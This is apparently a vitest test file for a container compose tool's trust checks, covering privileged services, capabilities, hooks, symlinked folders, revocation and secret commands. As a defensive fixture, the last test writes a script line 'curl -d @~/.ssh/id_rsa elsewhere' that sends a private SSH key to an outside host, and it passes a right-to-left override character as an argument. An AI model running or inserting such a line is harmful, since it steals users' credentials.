import { mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadProject } from '../compose/index.ts';
import { openStore, type Store } from '../store/index.ts';
import { requireTrust, revokeTrust, TrustRequired, trustOf } from './index.ts';

let folder: string;
let store: Store;

beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'bytest-trust-')));
  store = openStore({ folder: join(folder, 'home') });
});

afterEach(() => {
  store.close();
  rmSync(folder, { recursive: true, force: true });
});

function project(yaml: string, workingDirectory = folder) {
  writeFileSync(join(folder, 'compose.yaml'), yaml);
  return loadProject({ workingDirectory, environment: {} });
}

const names = (grants: readonly { name: string }[]) => grants.map((grant) => grant.name);
const privileged = 'services: { web: { image: x, privileged: true } }';

describe('trust', () => {
  it('lets a project pass that asks for nothing', async () => {
    await requireTrust(store, await project('services: { web: { image: x } }'));
  });

  it('is refused without somebody to ask, naming each grant and the remedy', async () => {
    const refused = requireTrust(store, await project(privileged));
    await expect(refused).rejects.toThrow(TrustRequired);
    await expect(refused).rejects.toMatchObject({
      code: 'trust-required',
      message: expect.stringContaining('web is privileged'),
      remedy: expect.stringContaining('blockyard trust --yes'),
      grants: [{ name: 'web: privileged true' }],
    });
  });

  it('is asked for once, and again only for what is new', async () => {
    const asked: string[][] = [];
    const ask = async (missing: { name: string }[]) => {
      asked.push(names(missing));
      return true;
    };
    await requireTrust(store, await project(privileged), { ask });
    await requireTrust(store, await project(privileged), { ask });
    await requireTrust(
      store,
      await project('services: { web: { image: x, privileged: true, cap_add: [SYS_ADMIN] } }'),
      { ask },
    );
    expect(asked).toEqual([['web: privileged true'], ['web: cap_add SYS_ADMIN']]);
  });

  it('is not remembered when the answer is no', async () => {
    await expect(requireTrust(store, await project(privileged), { ask: async () => false })).rejects.toThrow(
      TrustRequired,
    );
    expect(names(trustOf(store, await project(privileged)).missing)).toEqual(['web: privileged true']);
  });

  it('does not pass from one service to another', async () => {
    await requireTrust(store, await project(privileged), { ask: async () => true });
    const other = await project('services: { web: { image: x }, db: { image: x, privileged: true } }');
    expect(names(trustOf(store, other).missing)).toEqual(['db: privileged true']);
  });

  it('belongs to the real folder, whichever way it is reached', async () => {
    await requireTrust(store, await project(privileged), { ask: async () => true });
    const link = join(folder, 'link');
    symlinkSync(folder, link);
    expect(trustOf(store, await project(privileged, link)).missing).toEqual([]);
  });

  it('is asked for hooks alone by what only runs hooks', async () => {
    const yaml = `
services:
  web: { image: x, cap_add: [SYS_ADMIN], pre_stop: [{ command: id, privileged: true }] }`;
    const refused = requireTrust(store, await project(yaml), { kinds: ['hook'] });
    await expect(refused).rejects.toMatchObject({ grants: [{ name: 'web: pre_stop.privileged true' }] });
    await requireTrust(store, await project(privileged), { kinds: ['hook'] });
  });

  it('is taken back', async () => {
    await requireTrust(store, await project(privileged), { ask: async () => true });
    revokeTrust(store, folder);
    await expect(requireTrust(store, await project(privileged))).rejects.toThrow(TrustRequired);
  });

  it('is asked for each command that gets a secret, and again when a script of the project is another one', async () => {
    const command = ['./get.sh', '--of', 'op://shop/npm token', '\u202etxt'];
    const asking = async () => ({
      ...(await project('services: { web: { image: x } }')),
      secretCommands: [{ name: 'NPM_TOKEN', command }],
    });
    writeFileSync(join(folder, 'get.sh'), 'echo one');
    const { missing } = trustOf(store, await asking());
    expect(missing).toMatchObject([
      {
        kind: 'secret-command',
        text: 'The secret NPM_TOKEN is got by running `./get.sh --of "op://shop/npm token" "\\u{202e}txt"` on this machine.',
      },
    ]);
    await requireTrust(store, await asking(), { kinds: ['secret-command'], ask: async () => true });
    await requireTrust(store, await asking());
    writeFileSync(join(folder, 'get.sh'), 'curl -d @~/.ssh/id_rsa elsewhere');
    await expect(requireTrust(store, await asking())).rejects.toThrow(TrustRequired);
  });
});
